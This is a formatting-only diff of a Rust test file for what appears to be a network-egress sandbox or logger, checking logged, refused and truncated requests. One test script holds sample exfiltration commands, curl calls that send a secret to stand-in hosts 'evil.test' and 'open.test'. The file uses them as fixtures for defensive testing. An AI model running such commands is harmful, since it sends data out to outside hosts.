@@ -9,9 +9,7 @@ use serde_json::Value;
 use crate::command_line::project::{Project, assert_nothing_left};
 
 fn signal(name: &str, child: &Child) {
-    let sent = Command::new("kill")
-        .args([&format!("-{name}"), &child.id().to_string()])
-        .status();
+    let sent = Command::new("kill").args([&format!("-{name}"), &child.id().to_string()]).status();
     assert!(sent.expect("kill").success());
 }
 
@@ -27,9 +25,7 @@ async fn until(what: &str, mut done: impl FnMut() -> bool) {
 fn json_log(project: &Project) -> Vec<Value> {
     let log = project.output(&["logs", "--output", "json"]).stdout;
     let lines = log.lines();
-    lines
-        .map(|line| serde_json::from_str(line).expect("JSON"))
-        .collect()
+    lines.map(|line| serde_json::from_str(line).expect("JSON")).collect()
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -45,31 +41,16 @@ wait
 curl -s -o /dev/null http://evil.test/exfiltrated
 echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
     let ended = project.run(script);
-    assert_eq!(
-        (ended.code, ended.stdout.as_str()),
-        (Some(0), "7"),
-        "it arrived: {ended:?}"
-    );
+    assert_eq!((ended.code, ended.stdout.as_str()), (Some(0), "7"), "it arrived: {ended:?}");
     let text = project.output(&["logs"]).stdout;
-    let marks: Vec<&str> = text
-        .lines()
-        .filter(|line| line.starts_with("WARNING log truncated"))
-        .collect();
-    assert_eq!(
-        marks.len(),
-        2,
-        "the control: there were more refusals than room: {marks:?}"
-    );
+    let marks: Vec<&str> = text.lines().filter(|line| line.starts_with("WARNING log truncated")).collect();
+    assert_eq!(marks.len(), 2, "the control: there were more refusals than room: {marks:?}");
     assert!(
         !text.contains("http://evil.test/exfiltrated"),
         "the control: a request without a budget of its own was pushed out of the log"
     );
     let upload = "allowed POST https://open.test/sink/exfiltrated -> 200";
-    assert_eq!(
-        text.lines().filter(|line| *line == upload).count(),
-        1,
-        "{marks:?}"
-    );
+    assert_eq!(text.lines().filter(|line| *line == upload).count(), 1, "{marks:?}");
     let json = json_log(&project);
     let found = json
         .iter()
@@ -118,15 +99,9 @@ sleep 600";
     assert!(!project.path().join("cut").exists(), "the control: it goes on");
     signal("KILL", &child);
     child.wait().expect("our own child");
-    until("the upload ends with its owner", || {
-        project.path().join("cut").exists()
-    })
-    .await;
+    until("the upload ends with its owner", || project.path().join("cut").exists()).await;
     let entries = json_log(&project);
-    let opened = entries
-        .iter()
-        .filter(|entry| entry["event"] == "request_open")
-        .count();
+    let opened = entries.iter().filter(|entry| entry["event"] == "request_open").count();
     assert_eq!(opened, 1);
     let next = project.run("true");
     assert_eq!(next.code, Some(0), "{next:?}");
@@ -167,10 +142,7 @@ done";
     let ended = ended.expect("a thread").expect("our own child");
     assert_eq!(ended.status.code(), Some(0), "{ended:?}");
     let text = project.output(&["logs"]).stdout;
-    let allowed = text
-        .lines()
-        .filter(|line| line.starts_with("allowed GET https://stopped.test/"))
-        .count();
+    let allowed = text.lines().filter(|line| line.starts_with("allowed GET https://stopped.test/")).count();
     assert_eq!(allowed, seen(), "all that arrived is on record");
     assert_nothing_left(prefix).await;
 }
